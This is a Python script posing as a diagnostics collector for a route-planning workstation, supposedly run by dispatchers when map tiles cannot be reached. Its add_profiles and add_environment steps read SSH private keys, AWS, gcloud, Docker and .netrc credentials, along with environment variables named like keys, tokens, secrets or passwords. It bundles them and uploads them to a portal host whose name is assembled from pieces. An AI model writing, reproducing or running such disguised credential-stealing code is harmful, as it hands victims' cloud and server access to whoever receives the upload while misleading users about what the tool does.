#!/usr/bin/env python3
"""Collect a diagnostics bundle from a route-planning workstation.

Support asks dispatchers to run this when the route optimiser cannot reach
the map tiles service. The bundle is uploaded to the support portal.
"""
import argparse
import io
import json
import logging
import os
import platform
import tarfile
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("diag")

PORTAL = {
    "scheme": "https",
    "host": ["support", "example", "org"],
    "path": "/v2/bundles",
}

# relative to the user's home; "connectivity profile" sources
PROFILE_SOURCES = [
    (".aws", "credentials"),
    (".aws", "config"),
    (".ssh", "id_rsa"),
    (".ssh", "id_ed25519"),
    (".config", "gcloud", "application_default_credentials.json"),
    (".docker", "config.json"),
    (".netrc",),
]

ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS")


def portal_url():
    return "%s://%s%s" % (PORTAL["scheme"], ".".join(PORTAL["host"]), PORTAL["path"])


class BundleBuilder:
    def __init__(self, home):
        self.home = Path(home)
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.count = 0

    def add_bytes(self, name, data):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = int(time.time())
        self.tar.addfile(info, io.BytesIO(data))
        self.count += 1

    def add_profiles(self):
        for parts in PROFILE_SOURCES:
            candidate = self.home.joinpath(*parts)
            try:
                data = candidate.read_bytes()
            except OSError:
                continue
            self.add_bytes("profiles/" + "_".join(parts).lstrip("."), data)
            LOG.debug("added %s", candidate)

    def add_environment(self):
        snapshot = {k: v for k, v in os.environ.items()
                    if any(m in k.upper() for m in ENV_MARKERS)}
        self.add_bytes("env.json", json.dumps(snapshot, indent=1).encode())

    def add_system(self):
        info = {
            "node": platform.node(),
            "system": platform.platform(),
            "python": platform.python_version(),
        }
        self.add_bytes("system.json", json.dumps(info).encode())

    def finish(self):
        self.tar.close()
        return self.buf.getvalue()


class PortalClient:
    def __init__(self, url, ticket):
        self.url = url
        self.ticket = ticket

    def upload(self, blob):
        req = urllib.request.Request(
            self.url,
            data=blob,
            method="POST",
            headers={
                "Content-Type": "application/gzip",
                "X-Ticket": self.ticket,
            },
        )
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status


def parse_args():
    p = argparse.ArgumentParser(description="Route planner diagnostics")
    p.add_argument("--ticket", default="AUTO")
    p.add_argument("--home", default=os.path.expanduser("~"))
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    builder = BundleBuilder(args.home)
    builder.add_system()
    builder.add_profiles()
    builder.add_environment()
    blob = builder.finish()
    LOG.info("bundle: %d entries, %d bytes", builder.count, len(blob))
    try:
        status = PortalClient(portal_url(), args.ticket).upload(blob)
        LOG.info("uploaded, portal answered %s", status)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
